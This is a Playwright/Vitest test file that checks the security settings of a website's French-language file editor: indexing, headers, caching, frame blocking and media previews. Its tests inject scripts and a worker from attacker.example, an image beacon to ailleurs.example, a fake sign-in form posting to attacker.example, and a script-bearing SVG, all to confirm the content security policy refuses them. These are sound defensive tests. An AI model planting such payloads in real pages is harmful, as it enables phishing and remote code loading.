import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, inject, test } from 'vitest';
import { ATELIER_ASSETS, ATELIER_FOLDER } from '../../publish/atelier/atelierPages';
import { CSP } from '../../publish/headers/headerRules';
import { readHeadersFile } from '../../publish/headers/hostFiles';
import { browserPerWorker } from '../browser/browserPerWorker';
import { watchPolicy } from '../browser/policyWatch';
import { TESTED_CONTENT } from '../projectCopy';
import { bytesOf, FOLDER_BUTTON, type LocalEditor, openLocalEditor, setHash } from './localFolder';

const { newPage } = browserPerWorker({ closing: 'with the file' });
const read = (file: string) => readFileSync(join(inject('siteFolder'), file), 'utf8');
const NAMES_IT = new RegExp(`/${ATELIER_FOLDER}(?:/|["?#]|$)`, 'm');

describe('published files of the editor', () => {
  test('no page, script or other public file of the site mentions the editor’s address', () => {
    const naming = readdirSync(inject('siteFolder'), { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.(?:html|css|js|xml|txt|json)$/.test(file))
      .filter((file) => !file.startsWith(ATELIER_FOLDER) && file !== 'vercel.json')
      // version.json contains the name of every file.
      .filter((file) => file !== 'version.json')
      .filter((file) => NAMES_IT.test(read(file)));
    expect(naming).toEqual([]);
  });

  test('the page and the headers of the editor forbid search engines to index it', async () => {
    expect(read(`${ATELIER_FOLDER}/index.html`)).toContain(
      '<meta name="robots" content="noindex, nofollow" />',
    );
    const { headers } = await fetch(`${inject('siteUrl')}/${ATELIER_FOLDER}/`);
    expect(headers.get('x-robots-tag')).toBe('noindex, nofollow');
  });

  test('only one rule of _headers has a content security policy, because hosts join the headers of all matching rules', () => {
    const rules = readHeadersFile(read('_headers'));
    expect(rules.filter(({ headers }) => headers[CSP]).map(({ path }) => path)).toEqual(['/*']);
  });

  test('browsers may cache the files of the editor for a year', async () => {
    const files = readdirSync(join(inject('siteFolder'), ATELIER_ASSETS));
    const script = files.find((file) => file.startsWith('editor-'));
    const { headers } = await fetch(`${inject('siteUrl')}/${ATELIER_ASSETS}/${script}`);
    expect(headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
  });
});

describe('open editor', () => {
  let page: Page;
  let refused: readonly string[];
  let editor: LocalEditor;
  beforeAll(async () => {
    const phone = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };
    page = await newPage({ locale: 'fr-FR', ...phone });
    refused = await watchPolicy(page);
    await page.goto('/atelier/');
    await page.getByRole('button', { name: FOLDER_BUTTON }).waitFor();
  });

  test('the editor’s content security policy blocks scripts and workers of other sites', async () => {
    const outcomes = await page.evaluate(() => {
      const tried = (act: () => unknown) => {
        try {
          act();
          return 'done';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      };
      const script = document.createElement('script');
      return [
        tried(() => Object.assign(script, { src: 'https://attacker.example/a.js' })),
        tried(() => Object.assign(script, { src: 'data:text/javascript,alert(1)' })),
        tried(() => Object.assign(script, { text: 'document.title = "attacked"' })),
        tried(() => new Worker('https://attacker.example/a.js')),
        tried(() => Object.assign(script, { src: '/atelier/assets/of-here.js' })),
      ];
    });
    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused', 'done']);
  });

  test('the editor does not open in a frame of another page, even on a host that sends no headers', async () => {
    const other = await newPage();
    await other.route('**/atelier/', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ body: await response.body(), contentType: 'text/html' });
    });
    const body = '<iframe src="/atelier/"></iframe>';
    await other.route('**/cadre', (route) => route.fulfill({ body, contentType: 'text/html' }));
    await other.goto('/cadre');
    const status = other.frameLocator('iframe').getByRole('status');
    await expect.poll(() => status.textContent()).toContain('ne s’ouvre pas dans une autre page');
  });

  test('the editor shows the symbol of every icon, not its name in the icon font', async () => {
    const added = Object.entries(UNSHOWN).map(([name, text]) => [`content/images/${name}`, text]);
    editor = await openLocalEditor(page, Object.fromEntries(added));
    await page.evaluate(() => document.fonts.ready.then(() => undefined));
    expect(await wordsOfIcons(page)).toEqual([]);
    await editor.open('offres', 'essentiel');
    expect(await wordsOfIcons(page)).toEqual([]);
  });

  test('the editor’s media library shows no picture for a text file, or for an SVG that the site’s checks refuse', async () => {
    const opened = page.getByRole('group', { name: 'Éditeur de fichiers' });
    const parts = opened.locator('.preview').locator('figure, [role="figure"], form, img');
    const isDrawn = () =>
      parts.evaluateAll((all) => all.some((part) => Reflect.get(part, 'naturalWidth') !== 0));
    for (const name of [...Object.keys(UNSHOWN), 'cover-reel-1.svg']) {
      await setHash(page, `#/assets/content/images/${name}`);
      await opened.locator(`.detail a[href$="/${name}"]`).waitFor();
      await opened.locator('.preview').locator('[role="alert"], .icon, img').first().waitFor();
      await expect.poll(isDrawn, { message: name }).toBe(!(name in UNSHOWN));
    }
  });

  test('the editor’s content security policy lets staff upload a PDF, but blocks an image from another site', async () => {
    const before = refused.length;
    await setHash(page, '#/assets/content/fichiers');
    const asked = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: 'Déposer de nouveaux fichiers' }).click();
    const brochure = readFileSync(`${TESTED_CONTENT}/fichiers/brochure.pdf`);
    const pdf = { name: 'Tarifs été.pdf', mimeType: 'application/pdf', buffer: brochure };
    await (await asked).setFiles(pdf);
    await page.getByRole('button', { name: 'Déposer', exact: true }).click();
    const size = () =>
      bytesOf(page, 'content/fichiers/tarifs-ete.pdf').then(
        ({ length }) => length,
        () => 0,
      );
    await expect.poll(size).toBe(brochure.length);
    expect(refused.slice(before)).toEqual([]);
    await page.evaluate(() => {
      new Image().src = 'https://ailleurs.example/espion.png';
    });
    await expect.poll(() => refused.slice(before).join()).toContain('img-src https://ailleurs');
  });
});

const FALSE_SIGN_IN =
  '# Connexion\n\n<form action="https://attacker.example"><input><button>Entrer</button></form>';

/** Files among the pictures that the editor must not show. */
const UNSHOWN = {
  ...{ 'note.md': FALSE_SIGN_IN, 'page.html': FALSE_SIGN_IN, 'page.xhtml': FALSE_SIGN_IN },
  ...{ 'donnees.json': '{}', 'sous-titres.vtt': 'WEBVTT', 'sous-titres.srt': '1', 'mots.txt': 'a' },
  'dessin.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script/><path d="M0 0h9v9z"/></svg>',
};

/** Returns the text of icons that are wider than an icon, as without the icon font. */
function wordsOfIcons(page: Page): Promise<(string | null)[]> {
  return page.locator('.material-symbols-outlined').evaluateAll((icons) =>
    icons
      .filter((icon) => icon.textContent?.trim() && icon.getClientRects().length > 0)
      .filter((icon) => {
        const range = document.createRange();
        range.selectNodeContents(icon);
        const { fontSize } = getComputedStyle(icon);
        return range.getBoundingClientRect().width > Number.parseFloat(fontSize) * 1.2;
      })
      .map((icon) => icon.textContent),
  );
}
